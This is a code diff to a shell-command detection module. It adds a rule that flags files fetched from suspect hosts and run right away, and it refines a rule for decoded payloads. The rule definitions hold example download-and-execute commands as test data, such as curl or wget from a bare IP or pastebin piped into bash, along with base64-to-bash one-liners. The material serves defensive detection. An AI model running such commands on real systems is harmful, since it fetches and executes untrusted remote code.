@@ -2,6 +2,7 @@
 
 from urllib.parse import urlsplit
 
+from apps.detection.argv import getopt
 from apps.detection.argv.invocation import Invocation
 from apps.detection.argv.launchers import SHELLS, shell_options
 from apps.detection.reading import Reading
@@ -51,9 +52,11 @@ def _evaluated(reading: Reading) -> Detail | None:
         return None
     text = " ".join(decoder.argv)
     for invocation in reading.invocations:
-        inside = invocation.program == "eval" or (invocation.program in SHELLS and "$(" in " ".join(invocation.args))
-        if inside and (invocation.program == "eval" or decoder.program in " ".join(invocation.args)):
-            return {"decoder": text, "runner": invocation.program, "text": " ".join(invocation.args)}
+        given = " ".join(invocation.args)
+        hidden = "$(" in given and decoder.program in given
+        known = invocation.program == "eval" and "$(" not in given and decoder.nested
+        if (hidden and invocation.program in ("eval", *SHELLS)) or known:
+            return {"decoder": text, "runner": invocation.program, "text": given}
     return None
 
 
@@ -81,6 +84,23 @@ def _downloaded_shell(reading: Reading) -> Detail | None:
         joined = " ".join(runner.args)
         if ("<(" in joined or "$(" in joined) and any(f in joined for f in _FETCHERS) and (host := _suspect(fetchers)):
             return {"host": host, "runner": runner.program}
+    return _saved_and_run(reading)
+
+
+def _saved_and_run(reading: Reading) -> Detail | None:
+    """Fetched to a file from such a place, and that file started in the same breath."""
+    saved: dict[str, str] = {}
+    for invocation in reading.invocations:
+        if invocation.program in _FETCHERS and (host := _suspect([invocation])):
+            flags = "o:O" if invocation.program == "curl" else "O:P:"
+            options = getopt(invocation.args, flags, frozenset({"--output", "--output-document"}))
+            url = next((word for word in options.rest if "/" in word), "")
+            saved[options.value("o", "--output", "--output-document") or options.value("O") or url.rpartition("/")[2]] = host
+        named = [invocation.argv[0], *invocation.args[:2]] if invocation.argv else []
+        runs = invocation.argv and (named[0].removeprefix("./") in saved or invocation.program in (*SHELLS, "python", "perl"))
+        path = next((p for word in named if (p := word.removeprefix("./")) in saved or word in saved), "") if runs else ""
+        if path:
+            return {"host": saved.get(path, ""), "file": path}
     return None
 
 
@@ -110,7 +130,7 @@ DECODED = Rule(
     examples=("echo bHMgLWxhCg== | base64 -d | bash", 'eval "$(echo aWQ= | base64 --decode)"'),
     match=_decoded_shell,
     reads="reading",
-    hints=("base64", "base32", "xxd", "uudecode", "gunzip", "zcat", "openssl"),
+    programs=_DECODERS,
 )
 DOWNLOADED = Rule(
     slug="download-run",
@@ -123,9 +143,14 @@ DOWNLOADED = Rule(
     description="Something fetched from a bare address, an odd port, or a place where anyone may leave text goes straight "
     "into a shell. Well-named hosts do not match: installers are run like that every day.",
     false_positives="Internal bootstrap servers addressed by number.",
-    examples=("curl -s http://203.0.113.9/a.sh | bash", "bash <(curl -s https://pastebin.com/raw/abc)"),
+    examples=(
+        "curl -s http://203.0.113.9/a.sh | bash",
+        "bash <(curl -s https://pastebin.com/raw/abc)",
+        "wget http://203.0.113.9/p -O /tmp/p; chmod +x /tmp/p; /tmp/p",
+    ),
     match=_downloaded_shell,
     reads="reading",
-    hints=("curl", "wget", "fetch", "lwp-"),
+    programs=_FETCHERS,
+    hints=("sh", "eval", "source", "chmod", "python", "perl"),
 )
 RULES = (DECODED, DOWNLOADED)
